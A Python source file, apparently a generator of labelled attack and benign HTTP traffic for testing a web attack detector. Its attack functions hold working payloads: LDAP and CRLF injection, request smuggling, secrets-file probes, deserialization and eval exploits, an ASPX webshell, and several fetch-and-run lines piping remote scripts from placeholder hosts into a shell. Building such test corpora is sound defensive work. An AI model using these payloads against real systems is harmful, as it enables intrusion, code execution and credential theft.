    t.form("form-nullbyte", "/portal/login", "user=" + enc("jdoe*)(|(mail=*))") + "%00&pass=x", client="curl")
    t.get("query-encoded", "/api/v1/addressbook?" + "name=%2a%29%28%7c%28objectClass%3d%2a%29%29", client="go")
    t.gql("graphql-variables", "/graphql", "query Dir($filter: String!) {\n  directory(filter: $filter) { dn mail telephoneNumber }\n}", {"filter": "a*)(description=*pass*"}, op="Dir")
    t.json("json-nested", "/api/v1/groups/members", {"group": {"name": "admins)(|(cn=*"}})
    t.get("query", "/api/v1/ldap/user?" + qs([("name", "admin*)((|userpassword=*)")]), client="curl")
    t.form("form", "/api/v1/account/recover", [("email", "*)(|(objectclass=*))(&(1=1")], client="chrome")
    t.xml("soap", "/services/DirectoryService", soap("urn:acme:dir", "<ns:FindUser><ns:login>*)(&amp;(objectClass=user)(description=*</ns:login></ns:FindUser>"), ctype="text/xml; charset=utf-8", client="java")
    t.get("query-double-encoded", "/api/v1/staff?" + qs([("manager", "*)(uid=*))(|(uid=*")], level=2), client="python")
    t.json("json-array", "/api/v1/acl/check", {"principals": ["alice", "bob)(|(objectClass=*)"]})


def atk_crlf(c):
    t = Tag(c, "crlf")
    t.get("query", "/api/v1/redirect?next=%0d%0aSet-Cookie:%20sessionid=attacker123", client="curl")
    t.get("query-response-splitting", "/api/v1/i18n/switch?lang=en%0d%0aContent-Length:%200%0d%0a%0d%0aHTTP/1.1%20200%20OK%0d%0aContent-Type:%20text/html%0d%0a%0d%0a%3Cscript%3Ealert(1)%3C/script%3E", client="python")
    t.get("path", "/%0d%0aLocation:%20https://" + EVIL[3] + "/phish", client="curl")
    t.get("path-unicode", "/%E5%98%8A%E5%98%8DSet-Cookie:crlf=injection", client="curl")
    t.get("query-lf", "/api/v1/go?url=/home%0aSet-Cookie:%20admin=true", client="go")
    t.json("json-header-value", "/api/v1/reports/export", {"download": {"filename": "report.csv\r\nContent-Type: text/html\r\n\r\n<script>alert(document.domain)</script>", "format": "csv"}})
    t.get("query-double-encoded", "/api/v1/locale?set=fr%250d%250aSet-Cookie:%2520csrftoken=x", client="curl")
    t.get("oauth-state", "/oauth/callback?code=" + c.alnum(20) + "&state=xyz%0d%0aSet-Cookie:%20oauth_state=attacker;%20Path=/", host="id.acme-shop.com", client="chrome")
    t.json("email-header", "/api/v1/contact", {"contact": {"email": "victim@example.com\r\nBcc: list-all@acme-shop.com", "message": "hi"}}, client="python")
    t.get("after-fragment", "/api/v1/r?to=%23%0d%0aSet-Cookie:x=1", client="curl")
    t.form("log-forging", "/api/auth/login", [("username", "guest\r\n2024-06-20 10:00:00 INFO user=admin action=login result=success"), ("password", "x")], client="python")
    t.get("cookie", "/api/v1/prefs", extra=[("Cookie", "lang=fr%0d%0aSet-Cookie:%20admin=1; sid=" + c.alnum(16))], client="firefox")
    t.get("query", "/api/v1/files/export?name=x.csv%0D%0AContent-Disposition:%20attachment;%20filename=evil.html", client="chrome")
    t.get("query-iis-unicode", "/api/v1/redirect?target=%u000d%u000aSet-Cookie:%20x=y", client="curl")
    t.get("header-injection-location", "/api/v1/sso/start?" + "return=https://app.acme-shop.com/%0d%0aX-Forwarded-Host:%20" + EVIL[3], client="curl")
    t.gql("graphql-variables", "/graphql", "mutation Dl($name: String!) {\n  createDownloadLink(fileName: $name) { url }\n}", {"name": "invoice.pdf\r\nSet-Cookie: session=fixated"}, op="Dl")


def atk_protocol(c):
    cat = "protocol"
    H = "api.acme-shop.com"
    ua = UA["python"]

    def req(place, lines, body=b""):
        c.raw(cat, place, raw_request(lines, body))
    smug = "0\r\n\r\nGET /admin/users HTTP/1.1\r\nX-Ignore: X"
    req("smuggling-cl-te", ["POST /api/v1/cart HTTP/1.1", f"Host: {H}", f"User-Agent: {ua}", "Content-Type: application/x-www-form-urlencoded",
                            f"Content-Length: {len(smug)}", "Transfer-Encoding: chunked"], smug)
    inner = "GPOST /api/v1/cart HTTP/1.1\r\nContent-Type: application/x-www-form-urlencoded\r\nContent-Length: 15\r\n\r\nx=1"
    chunk = "%x\r\n%s\r\n0\r\n\r\n" % (len(inner), inner)
    req("smuggling-te-cl", ["POST /api/v1/cart HTTP/1.1", f"Host: {H}", f"User-Agent: {ua}", "Content-Type: application/x-www-form-urlencoded",
                            f"Content-Length: {len('%x' % len(inner)) + 2}", "Transfer-Encoding: chunked"], chunk)
    body = "0\r\n\r\nGET /internal/metrics HTTP/1.1\r\nHost: localhost\r\n\r\n"
    req("smuggling-te-xchunked", ["POST /api/v1/search HTTP/1.1", f"Host: {H}", "User-Agent: " + UA["curl"], "Content-Type: application/json",
                                  f"Content-Length: {len(body)}", "Transfer-Encoding: xchunked"], body)
    req("smuggling-te-space-before-colon", ["POST /api/v1/search HTTP/1.1", f"Host: {H}", "User-Agent: " + UA["curl"], "Content-Type: application/json",
                                            f"Content-Length: {len(body)}", "Transfer-Encoding : chunked"], body)
    req("smuggling-te-duplicate", ["POST /api/v1/orders HTTP/1.1", f"Host: {H}", f"User-Agent: {ua}", "Content-Type: application/json",
                                   f"Content-Length: {len(smug)}", "Transfer-Encoding: chunked", "Transfer-encoding: cow"], smug)
    req("smuggling-te-folded", ["POST /api/v1/orders HTTP/1.1", f"Host: {H}", f"User-Agent: {ua}", "Content-Type: application/json",
                                f"Content-Length: {len(smug)}", "Transfer-Encoding:", " chunked"], smug)
    dup = "user=a&pGET /admin HTTP/1.1\r\nHost: localhost\r\n\r\n"
    req("smuggling-duplicate-cl", ["POST /api/v1/login HTTP/1.1", f"Host: {H}", f"User-Agent: {ua}", "Content-Type: application/x-www-form-urlencoded",
                                   "Content-Length: 8", f"Content-Length: {len(dup)}"], dup)
    c.raw(cat, "smuggling-te-bare-lf", (f"POST /api/v1/feedback HTTP/1.1\r\nHost: {H}\r\nUser-Agent: {ua}\r\nContent-Type: text/plain\r\n"
                                        f"Content-Length: {len(smug)}\r\nX-Pad: x\nTransfer-Encoding: chunked\r\n\r\n{smug}").encode())
    req("h2c-upgrade-smuggling", ["GET /api/v1/health HTTP/1.1", f"Host: {H}", "User-Agent: " + UA["go"], "Accept: */*",
                                  "Upgrade: h2c", "HTTP2-Settings: AAMAAABkAARAAAAAAAIAAAAA", "Connection: Upgrade, HTTP2-Settings"])
    cl0 = "GET /admin/delete?user=carlos HTTP/1.1\r\nHost: localhost\r\nFoo: x"
    req("smuggling-cl0-get", ["GET /static/app.js HTTP/1.1", f"Host: {H}", "User-Agent: " + UA["chrome"], "Connection: keep-alive",
                              f"Content-Length: {len(cl0)}"], cl0)
    req("absolute-uri-internal-host", ["GET http://admin.internal.svc.cluster.local/api/v1/users HTTP/1.1", f"Host: {H}", "User-Agent: " + UA["curl"], "Accept: */*"])
    req("duplicate-host", ["GET /api/v1/password/reset-link?email=victim%40example.com HTTP/1.1", f"Host: {H}", "Host: " + EVIL[3], "User-Agent: " + UA["curl"], "Accept: */*"])
    tail = "0\r\n\r\nGET /admin HTTP/1.1\r\nHost: localhost\r\n\r\n"
    ext = "2;\nxx\r\n%x\r\n%s\r\n0\r\n\r\n" % (len(tail), tail)
    req("smuggling-chunk-ext-lf", ["POST /api/v1/upload HTTP/1.1", f"Host: {H}", f"User-Agent: {ua}", "Content-Type: application/octet-stream",
                                   "Transfer-Encoding: chunked"], ext)
    req("smuggling-http10-te-cl", ["POST /api/v1/cart HTTP/1.0", f"Host: {H}", f"User-Agent: {ua}", "Content-Type: application/x-www-form-urlencoded",
                                   f"Content-Length: {len(smug)}", "Transfer-Encoding: chunked"], smug)
    req("smuggling-te-underscore", ["POST /api/v1/comments HTTP/1.1", f"Host: {H}", f"User-Agent: {ua}", "Content-Type: application/json",
                                    f"Content-Length: {len(smug)}", "Transfer_Encoding: chunked"], smug)
    req("smuggling-te-quoted", ["POST /api/v1/comments HTTP/1.1", f"Host: {H}", f"User-Agent: {ua}", "Content-Type: application/json",
                                f"Content-Length: {len(smug)}", 'Transfer-Encoding: "chunked"'], smug)


SCANNER_UAS = {
    "sqlmap": "sqlmap/1.8.6#stable (https://sqlmap.org)",
    "nuclei": "Nuclei - Open-source project (github.com/projectdiscovery/nuclei)",
    "nikto": "Mozilla/5.00 (Nikto/2.5.0) (Evasions:None) (Test:000562)",
    "masscan": "masscan/1.3 (https://github.com/robertdavidgraham/masscan)",
    "zgrab": "Mozilla/5.0 zgrab/0.x",
    "gobuster": "gobuster/3.6",
    "ffuf": "Fuzz Faster U Fool v2.1.0-dev",
    "wpscan": "WPScan v3.8.25 (https://wpscan.com/wordpress-security-scanner)",
    "nmap": "Mozilla/5.0 (compatible; Nmap Scripting Engine; https://nmap.org/book/nse.html)",
    "feroxbuster": "feroxbuster/2.10.4",
    "dirbuster": "DirBuster-1.0-RC1 (http://www.owasp.org/index.php/Category:OWASP_DirBuster_Project)",
    "wfuzz": "Wfuzz/3.1.0",
    "commix": "commix/v4.0-stable (https://commixproject.com)",
    "arachni": "Arachni/v1.5.1",
    "openvas": "Mozilla/5.0 [en] (X11, U; OpenVAS-VT 22.4.1)",
    "jorgee": "Mozilla/5.0 Jorgee",
}


def atk_scanner(c):
    t = Tag(c, "scanner")
    s = SCANNER_UAS
    t.get("ua-sqlmap", "/api/v1/products?id=1%20AND%202891%3D2891", client=s["sqlmap"], accept="*/*")
    t.get("ua-nuclei", "/api/v1/users", client=s["nuclei"], accept="*/*")
    t.get("ua-nikto", "/cgi-bin/test-cgi", client=s["nikto"], accept="*/*")
    t.get("ua-masscan", "/", client=s["masscan"], accept="*/*", sidecar=False)
    t.get("ua-zgrab", "/", client=s["zgrab"], accept="*/*")
    t.get("ua-gobuster", "/api/v1/admin", client=s["gobuster"], accept="*/*")
    t.get("ua-ffuf", "/api/v1/FUZZ-backup", client=s["ffuf"], accept="*/*")
    t.get("ua-wpscan", "/wp-json/wp/v2/users", client=s["wpscan"], accept="*/*")
    t.get("ua-nmap", "/nmaplowercheck1718899201", client=s["nmap"], accept="*/*")
    t.get("ua-feroxbuster", "/api/v2/internal", client=s["feroxbuster"], accept="*/*")
    t.get("ua-dirbuster", "/admin/", client=s["dirbuster"], accept="*/*")
    t.get("ua-wfuzz", "/api/v1/users?id=FUZZ", client=s["wfuzz"], accept="*/*")
    t.form("ua-commix", "/api/v1/tools/ping", [("addr", "127.0.0.1;echo XNHUYB$((77+15))$(echo XNHUYB)XNHUYB")], client=s["commix"])
    t.get("ua-arachni", "/api/v1/search?q=arachni_text", client=s["arachni"], accept="*/*")
    t.get("ua-openvas", "/", client=s["openvas"], accept="*/*")
    t.get("ua-jorgee", "/phpmyadmin/index.php", client=s["jorgee"], accept="*/*")
    t.get("header-acunetix", "/api/v1/", client="chrome", extra=[("Acunetix-Product", "WVS/14.0 (Acunetix Web Vulnerability Scanner - Free Edition)"), ("Acunetix-Scanning-agreement", "Third Party Scanning PROHIBITED"), ("Acunetix-User-agreement", "http://www.acunetix.com/wvs/disc.htm")])
    t.get("header-netsparker", "/api/v1/login", client="chrome", extra=[("X-Scanner", "Netsparker")])
    for path, client in [("/.git/config", "go"), ("/.env", "curl"), ("/actuator/env", "python"), ("/actuator/heapdump", "go"),
                         ("/server-status", "curl"), ("/.aws/credentials", "python"), ("/.DS_Store", "chrome"), ("/phpinfo.php", "curl"),
                         ("/.svn/entries", "go"), ("/.kube/config", "python"), ("/debug/pprof/goroutine?debug=2", "go"),
                         ("/jolokia/list", "curl"), ("/manager/html", "firefox"), ("/_profiler/phpinfo", "curl"),
                         ("/backup.sql", "curl"), ("/wp-config.php.bak", "go"),
                         ("/console", "python"), ("/.docker/config.json", "go")]:
        place = "path-" + path.strip("/").split("?")[0].replace("/", "-").replace(".", "-").replace("_", "").strip("-").lower()
        t.get(place, path, client=client, accept="*/*" if client not in BROWSERS else None)
    t.get("header-original-url", "/api/v1/public/ping", client="curl", extra=[("X-Original-URL", "/actuator/env")])
    t.get("header-rewrite-url", "/", client="curl", extra=[("X-Rewrite-URL", "/server-status")])


def atk_generic(c):
    t = Tag(c, "generic")
    t.json("prototype-pollution", "/api/v1/users/me/preferences", {"preferences": {"theme": "dark", "__proto__": {"isAdmin": True}}}, method="PATCH", client="chrome")
    t.json("prototype-pollution", "/api/v1/settings/merge", {"constructor": {"prototype": {"role": "admin"}}}, method="PUT", client="axios")
    t.get("prototype-pollution-query", "/api/v1/search?q=shoes&__proto__[role]=admin", client="chrome")
    t.get("prototype-pollution-query", "/api/v1/products?constructor[prototype][isAdmin]=true", client="firefox")
    t.json("prototype-pollution-rce", "/api/v1/jobs/options", {"job": {"name": "export", "opts": {"__proto__": {"execArgv": ["--eval=require('child_process').execSync('curl http://" + EVIL[0] + "/pp|sh')"]}}}})
    t.form("prototype-pollution-ejs", "/api/v1/profile", [("name", "x"), ("__proto__[outputFunctionName]", "_tmp1;global.process.mainModule.require('child_process').exec('id');var __tmp2")], client="python")
    t.json("prototype-pollution-unicode", "/api/v1/config", '{"feature":{"\\u005f\\u005fproto\\u005f\\u005f":{"shell":"/proc/self/exe","NODE_OPTIONS":"--require /proc/self/environ"}}}', method="PUT", client="node")
    t.json("nodejs-injection", "/api/v1/calc", {"formula": {"expr": "require('child_process').execSync('cat /etc/passwd').toString()"}}, client="node")
    t.json("nodejs-vm-escape", "/api/v1/sandbox/run", {"script": "this.constructor.constructor('return process')().mainModule.require('fs').readFileSync('/etc/passwd','utf8')"}, client="axios")
    t.json("nodejs-function", "/api/v1/rules/evaluate", {"rule": {"when": "Function('return process')().mainModule.require('child_process').execSync('id')"}})
    t.json("python-eval", "/api/v1/alerts/conditions", {"condition": {"expression": "__import__('os').popen('id').read()"}}, client="python")
    t.json("python-sandbox-escape", "/api/v1/formulas", {"formula": "().__class__.__bases__[0].__subclasses__()[132].__init__.__globals__['system']('id')"})
    t.send("yaml-python", "POST", "/api/v1/pipelines/import", 'pipeline: !!python/object/apply:os.system ["curl http://198.51.100.23/y | sh"]\n', "application/x-yaml", client="python")
    t.send("yaml-ruby", "POST", "/api/v1/config/import", """---
- !ruby/object:Gem::Installer
    i: x
- !ruby/object:Gem::SpecFetcher
    i: y
- !ruby/object:Gem::Requirement
  requirements:
    !ruby/object:Gem::Package::TarReader
    io: &1 !ruby/object:Net::BufferedIO
      io: &1 !ruby/object:Gem::Package::TarReader::Entry
         read: 0
         header: "abc"
      debug_output: &1 !ruby/object:Net::WriteAdapter
         socket: &1 !ruby/object:Gem::RequestSet
             sets: !ruby/object:Net::WriteAdapter
                 socket: !ruby/module 'Kernel'
                 method_id: :system
             git_set: id
         method_id: :resolve
""", "application/x-yaml", client="curl")
    t.json("dotnet-json-type", "/api/v1/import/settings", {"$type": "System.Windows.Data.ObjectDataProvider, PresentationFramework, Version=4.0.0.0, Culture=neutral, PublicKeyToken=31bf3856ad364e35", "MethodName": "Start", "MethodParameters": {"$type": "System.Collections.ArrayList, mscorlib, Version=4.0.0.0, Culture=neutral, PublicKeyToken=b77a5c561934e089", "$values": ["cmd", "/c powershell -nop -c iwr http://198.51.100.23/a.ps1|iex"]}, "ObjectInstance": {"$type": "System.Diagnostics.Process, System, Version=4.0.0.0, Culture=neutral, PublicKeyToken=b77a5c561934e089"}}, client="edge")
    t.mp("csv-formula-injection", "/api/v1/contacts/import", [dict(name="file", filename="contacts.csv", ctype="text/csv", value="name,email,company\nJohn,john@example.com,=cmd|' /C powershell IEX(wget 198.51.100.23/s.ps1)'!A0\n")], client="chrome")
    t.json("csv-formula-injection", "/api/v1/leads", {"lead": {"name": "Ann", "company": "@SUM(1+9)*cmd|' /C calc'!A0"}})
    t.mp("aspx-webshell-upload", "/api/v1/files", [dict(name="file", filename="help.aspx", ctype="application/octet-stream", value='<%@ Page Language="C#" %><% System.Diagnostics.Process.Start("cmd.exe", "/c " + Request["c"]); %>')], client="curl")
    pickled = base64.b64encode(b"cos\nsystem\n(S'curl -s http://198.51.100.23/p.sh | sh'\ntR.").decode()
    t.get("python-pickle-cookie", "/api/v1/dashboard", extra=[("Cookie", "session=" + pickled)], client="python")
    t.get("prototype-pollution-dots", "/api/v1/filters?constructor.prototype.isAdmin=true", client="curl")


ATTACKS = [atk_sqli, atk_xss, atk_lfi, atk_rfi, atk_rce, atk_php, atk_java, atk_ssrf, atk_xxe, atk_ssti,
           atk_nosqli, atk_ldapi, atk_crlf, atk_protocol, atk_scanner, atk_generic]


# ==========================================================================
# BENIGN
# ==========================================================================

PEOPLE = [("Siobhán", "O'Brien"), ("Marco", "D'Angelo"), ("Aoife", "O'Connor"), ("Fatou", "N'Diaye"), ("Priya", "D'Souza"),
          ("Liam", "O'Neill"), ("Zoë", "Martin-Lévêque"), ("José", "Álvarez"), ("Thị Mai", "Nguyễn"), ("伟", "李"),
          ("芳", "王"), ("محمد", "العلي"), ("فاطمة", "الزهراء"), ("Søren", "Kierkegaard-Holm"), ("Małgorzata", "Wójcik"),
          ("Ольга", "Смирнова"), ("花子", "佐藤"), ("민준", "김"), ("Anne-Marie", "D'Arcy"), ("Chiara", "dell'Acqua"),
          ("Seán", "Ó Briain"), ("Ngozi", "Okonjo"), ("Björn", "Ågren"), ("Rosa", "O'Hara-Smith"), ("Dimitris", "Papadopoulos"),
          ("Ayşe", "Yılmaz"), ("Kai", "Müller"), ("Lucía", "Fernández"), ("Hannah", "O'Malley"), ("Jean-Luc", "Lefèvre"),
          ("Amara", "Ben Salah"), ("Tomás", "Ó Súilleabháin"), ("Ravi", "Shankar"), ("Mary-Kate", "McAllister")]
ADDRESSES = [("12 Rue de l'Église", "Lyon", "69002", "FR"), ("221B Baker Street", "London", "NW1 6XE", "GB"),
             ("Calle de O'Donnell, 34, 3º B", "Madrid", "28009", "ES"), ("Via dell'Indipendenza 8", "Bologna", "40121", "IT"),
             ("1600 Amphitheatre Pkwy", "Mountain View", "94043", "US"), ("Unit 4/17 O'Riordan St", "Alexandria NSW", "2015", "AU"),
             ("Friedrichstraße 123", "Berlin", "10117", "DE"), ("神南1-2-3 渋谷ビル 5F", "渋谷区, 東京都", "150-0041", "JP"),
             ("شارع الملك فهد 45", "الرياض", "12211", "SA"), ("P.O. Box 1024", "Anchorage, AK", "99501", "US"),
             ("Apt #5C, 350 W 42nd St", "New York, NY", "10036", "US"), ("Kungsgatan 44 (2 tr)", "Stockholm", "111 35", "SE"),
             ("ul. Marszałkowska 10/12 m. 5", "Warszawa", "00-590", "PL"), ("3/F, 18 Queen's Road Central", "Hong Kong", "", "HK"),
             ("Rua Oscar Freire, 1.200 - Apto 71", "São Paulo - SP", "01426-001", "BR")]
PRODUCTS = ["Select Comfort Memory Foam Pillow", "Union Jack Cushion Cover", "Drop-Leaf Dining Table", "Script Pro Fountain Pen",
            "Alert Beacon Bike Light", "Exec Chair Ergonomic", "Shell Cordovan Derby", "Cat 6 Ethernet Cable 5m",
            "Ping Pong Table Outdoor", "Echo Wall Clock", "Java Roast Coffee Beans 1kg", "Insert Molding Kit",
            "Table Runner 'Union Square'", "Update Pack 2024 (Maps)", "Where's Wally? Book Set", "Order of the Phoenix (Hardcover)",
            "Null & Void Board Game", "Truncate Bistro Stool", "Grant's Classic Whisky 70cl", "Delete Key Keycap (Cherry MX)",
            "Or & And Earrings", "Like New iPhone 13 (refurb)", "Rock 'n' Roll Vinyl Box", "Kids' Drop-Shoulder Tee",
            "Men's Waxed Jacket", "100% Merino Beanie", "Café Crème Mug 350ml", "Größe 42 Laufschuh", "SQL Pocket Guide, 4th Ed.",
            "JavaScript: The Good Parts", "Python Crash Course (3rd ed.)", "Alert & Awake Energy Tea"]
SEARCH_TERMS = ["select dress", "union jack mug", "drop earrings gold", "script font stencil", "medical alert bracelet", "table lamp",
                "o'neill wetsuit", "rock 'n' roll", "children's books", "men's shoes size 44", "exec chair", "sql for beginners book",
                "union vs union all", "how to update iphone", "javascript the good parts", "c++ primer", "100% cotton", "50% off",
                "sale & clearance", "café crème", "größe 42", "東京 ホテル", "هاتف سامسونج", "🎧 headphones", "1/2 inch drill bit",
                "4\" pvc pipe", "#1 bestseller", "a/b testing book", "where's wally", "null pointer mug", "order by phone",
                "drop shipping", "select-a-size bra", "insert coin arcade", "delete key keycap", "shell necklace", "echo dot",
                "ping pong balls", "alert dog collar", "kid's scripted tee"]
COMMITS = ["fix SQL select bug in monthly report", "migration: drop table legacy_sessions",
           "Merge pull request #1423 from acme/feat/cursor-pagination", "chore(deps): bump express from 4.18.2 to 4.19.2",
           "fix(auth): handle O'Brien-style apostrophes in display names", "refactor: replace raw SQL with query builder in OrderRepo",
           "docs: add `make dev` instructions", "ci: run `go test ./...` with -race", "feat: add union type for PaymentMethod",
           "Revert \"feat: exec probes for worker\"", "perf: add index on orders(created_at)", "fix: escape HTML in email preview",
           "build: use distroless base image", "test: cover the delete-account flow", "chore: ignore .env.local",
           "fix(ui): alert banner overlaps header on mobile", "feat(k8s): add readiness probe to checkout",
           "hotfix: rollback script for 2024-06 migration", "i18n: add Arabic and Japanese translations",
           "fix typo in README (it's -> its)", "feat(search): support OR queries in the product filter",
           "fix: DELETE /carts/{id} returned 500 when cart was empty", "chore: update CODEOWNERS",
           "feat: select default shipping address on checkout", "fix(db): wrap the insert/update in one transaction"]
FILES = ["internal/orders/repo.go", "db/migrations/20240611093000_drop_legacy_sessions.sql", "deploy/k8s/api/deployment.yaml",
         "README.md", ".github/workflows/ci.yml", "src/components/CheckoutForm.tsx", "api/openapi.yaml", "shop/settings/prod.py",
         "charts/shop/values.yaml", "Dockerfile", "src/main/java/com/acme/payments/RefundService.java", "locales/ar.json",
         "scripts/backfill_orders.py", "go.mod", "package-lock.json"]
K8S_NS = ["shop", "payments", "platform", "default", "monitoring", "search"]


def sha(c):
    return c.hex(40)


def k8s_container(c, name, image, port):
    cmds = {
        "checkout": {"command": ["/app/checkout"], "args": ["--port=8080", "--db-url=$(DATABASE_URL)", "--log-level=info"]},
        "api": {"command": ["/bin/sh", "-c", "python manage.py migrate --noinput && exec gunicorn shop.wsgi:application -b 0.0.0.0:8000 -w 4 --access-logfile -"]},
        "worker": {"command": ["celery"], "args": ["-A", "shop", "worker", "--loglevel=INFO", "--concurrency=4", "-Q", "default,emails"]},
        "frontend": {"command": ["/bin/sh", "-c"], "args": ["envsubst '$API_URL' < /etc/nginx/templates/default.conf.template > /etc/nginx/conf.d/default.conf && exec nginx -g 'daemon off;'"]},
        "payments": {"command": ["java"], "args": ["-XX:MaxRAMPercentage=75", "-Dspring.profiles.active=prod", "-Djava.security.egd=file:/dev/./urandom", "-jar", "/app/app.jar"]},
        "search-indexer": {"command": ["/bin/bash", "-c", "set -euo pipefail; while true; do /usr/local/bin/indexer --since \"$(date -u -d '-10 min' +%FT%TZ)\"; sleep 300; done"]},
        "notifier": {"command": ["node", "dist/main.js"]},
        "gateway": {"args": ["-c", "/etc/envoy/envoy.yaml", "--log-level", "warn"]},
        "reports": {"command": ["bash", "-c", "./bin/rails db:migrate && exec ./bin/rails server -b 0.0.0.0 -p 8080"]},
        "auth": {"args": ["start", "--optimized", "--hostname=id.acme-shop.com", "--proxy-headers=xforwarded"]},
    }[name]
    env = [{"name": "LOG_FORMAT", "value": "json"},
           {"name": "POD_IP", "valueFrom": {"fieldRef": {"fieldPath": "status.podIP"}}},
           {"name": "DATABASE_URL", "valueFrom": {"secretKeyRef": {"name": f"{name}-db", "key": "url"}}}]
    env += c.r.sample([{"name": "JAVA_OPTS", "value": "-Xms256m -Xmx512m -XX:+UseG1GC"},
                       {"name": "ALLOWED_ORIGINS", "value": "https://www.acme-shop.com,https://admin.acme-shop.com"},
                       {"name": "OTEL_EXPORTER_OTLP_ENDPOINT", "value": "http://otel-collector.monitoring:4318"},
                       {"name": "GOMEMLIMIT", "value": "450MiB"},
                       {"name": "REDIS_URL", "value": "redis://redis-master.cache.svc:6379/0"},
                       {"name": "FEATURE_FLAGS", "value": "new-checkout=true;cursor-pagination=true"},
                       {"name": "TZ", "value": "Europe/Dublin"}], 3)
    ctn = {"name": name, "image": image, "imagePullPolicy": "IfNotPresent", **cmds, "env": env,
           "resources": {"requests": {"cpu": c.pick(["100m", "250m", "500m"]), "memory": c.pick(["128Mi", "256Mi", "512Mi"])},
                         "limits": {"memory": c.pick(["512Mi", "1Gi"])}},
           "securityContext": {"runAsNonRoot": True, "readOnlyRootFilesystem": True, "allowPrivilegeEscalation": False,
                               "capabilities": {"drop": ["ALL"]}}}
    if port:
        ctn["ports"] = [{"name": "http", "containerPort": port, "protocol": "TCP"}]
        ctn["readinessProbe"] = {"httpGet": {"path": "/readyz", "port": "http"}, "periodSeconds": 5}
    if c.r.random() < 0.4:
        ctn["livenessProbe"] = {"exec": {"command": c.pick([["cat", "/tmp/healthy"], ["/bin/grpc_health_probe", "-addr=:9090"],
                                                               ["sh", "-c", "pg_isready -h localhost -U postgres"]])},
                                "initialDelaySeconds": 10, "periodSeconds": 20}
    if c.r.random() < 0.5:
        ctn["lifecycle"] = {"preStop": {"exec": {"command": ["/bin/sh", "-c", "sleep 15"]}}}
    return ctn


K8S_APPS = [("checkout", "ghcr.io/acme/checkout:2.14.1", 8080), ("api", "registry.acme-shop.com/shop/api:v3.9.0", 8000),
            ("worker", "registry.acme-shop.com/shop/api:v3.9.0", None), ("frontend", "nginx:1.27-alpine", 80),
            ("payments", "ghcr.io/acme/payments:7.0.3", 8443), ("search-indexer", "ghcr.io/acme/search-indexer:1.4.0", None),
            ("notifier", "ghcr.io/acme/notifier:0.9.12", 3000), ("gateway", "envoyproxy/envoy:v1.30.2", 10000),
            ("reports", "ghcr.io/acme/reports:5.2.0", 8080), ("auth", "quay.io/keycloak/keycloak:25.0.1", 8080)]
INIT_CONTAINERS = [
    {"name": "wait-for-db", "image": "busybox:1.36", "command": ["sh", "-c", "until nc -z postgres.shop.svc 5432; do echo waiting for db; sleep 2; done"]},
    {"name": "fix-perms", "image": "busybox:1.36", "command": ["sh", "-c", "chown -R 1000:1000 /data && chmod 0750 /data"]},
    {"name": "render-config", "image": "alpine:3.20", "command": ["/bin/sh", "-c", "cp /config-ro/* /config/ && sed -i \"s/__POD_IP__/${POD_IP}/g\" /config/app.conf"]},
]


def k8s_deployment(c, app, ns):
    name, image, port = app
    labels = {"app.kubernetes.io/name": name, "app.kubernetes.io/part-of": "shop", "app.kubernetes.io/managed-by": "kubectl"}
    spec = {"serviceAccountName": name, "containers": [k8s_container(c, name, image, port)], "terminationGracePeriodSeconds": 30}
    if c.r.random() < 0.4:
        spec["initContainers"] = [c.pick(INIT_CONTAINERS)]
    return {"apiVersion": "apps/v1", "kind": "Deployment",
            "metadata": {"name": name, "namespace": ns, "labels": labels},
            "spec": {"replicas": c.pick([1, 2, 3, 4, 6]), "selector": {"matchLabels": {"app.kubernetes.io/name": name}},
                     "strategy": {"type": "RollingUpdate", "rollingUpdate": {"maxSurge": "25%", "maxUnavailable": 0}},
                     "template": {"metadata": {"labels": labels, "annotations": {"prometheus.io/scrape": "true", "prometheus.io/port": "9090"}},
                                  "spec": spec}}}


CONFIGMAPS = {
    "nginx.conf": """worker_processes auto;
events { worker_connections 1024; }
http {
  log_format json escape=json '{"ts":"$time_iso8601","remote":"$remote_addr","req":"$request","status":$status,"rt":$request_time}';
  access_log /dev/stdout json;
  upstream api { server api.shop.svc:8000; keepalive 32; }
  server {
    listen 8080;
    location /api/ {
      proxy_pass http://api;
      proxy_set_header Host $host;
      proxy_set_header X-Forwarded-For $proxy_add_x_forwarded_for;
      proxy_read_timeout 30s;
    }
    location ~* \\.(js|css|png|svg|woff2)$ { expires 7d; add_header Cache-Control "public, immutable"; }
    location = /healthz { return 200 'ok'; }
  }
}
""",
    "init.sql": """-- schema bootstrap for the orders service
CREATE TABLE IF NOT EXISTS orders (
  id BIGSERIAL PRIMARY KEY,
  customer_id BIGINT NOT NULL,
  status TEXT NOT NULL DEFAULT 'pending',
  total_cents INTEGER NOT NULL,
  created_at TIMESTAMPTZ NOT NULL DEFAULT now()
);
CREATE INDEX IF NOT EXISTS orders_customer_idx ON orders (customer_id, created_at DESC);
DROP TABLE IF EXISTS orders_import_tmp;
INSERT INTO order_statuses (code, label) VALUES ('pending', 'Pending'), ('shipped', 'Shipped'), ('cancelled', 'Cancelled')
  ON CONFLICT (code) DO NOTHING;
GRANT SELECT, INSERT, UPDATE ON ALL TABLES IN SCHEMA public TO orders_app;
""",
    "prometheus.yml": """global:
  scrape_interval: 30s
scrape_configs:
  - job_name: kubernetes-pods
    kubernetes_sd_configs: [{role: pod}]
    relabel_configs:
      - source_labels: [__meta_kubernetes_pod_annotation_prometheus_io_scrape]
        action: keep
        regex: "true"
      - source_labels: [__address__, __meta_kubernetes_pod_annotation_prometheus_io_port]
        action: replace
        regex: ([^:]+)(?::\\d+)?;(\\d+)
        replacement: $1:$2
        target_label: __address__
""",
    "application.yaml": """spring:
  datasource:
    url: jdbc:postgresql://${DB_HOST:localhost}:5432/${DB_NAME:payments}?sslmode=require
    username: ${DB_USER}
    password: ${DB_PASSWORD}
  jpa:
    open-in-view: false
    properties:
      hibernate.jdbc.batch_size: 50
server:
  shutdown: graceful
management:
  endpoints.web.exposure.include: health,info,prometheus
logging:
  pattern:
    console: "%d{ISO8601} %-5level [%X{traceId}] %logger{36} - %msg%n"
""",
    "parsers.conf": """[PARSER]
    Name        nginx_access
    Format      regex
    Regex       ^(?<remote>[^ ]*) - (?<user>[^ ]*) \\[(?<time>[^\\]]*)\\] "(?<method>\\S+)(?: +(?<path>[^\\"]*?)(?: +\\S*)?)?" (?<code>[^ ]*) (?<size>[^ ]*)$
    Time_Key    time
    Time_Format %d/%b/%Y:%H:%M:%S %z
""",
    "php-fpm.ini": """memory_limit = 256M
upload_max_filesize = 20M
post_max_size = 24M
expose_php = Off
disable_functions = exec,passthru,shell_exec,system,proc_open,popen
opcache.enable = 1
opcache.validate_timestamps = 0
""",
    "redis.conf": """maxmemory 512mb
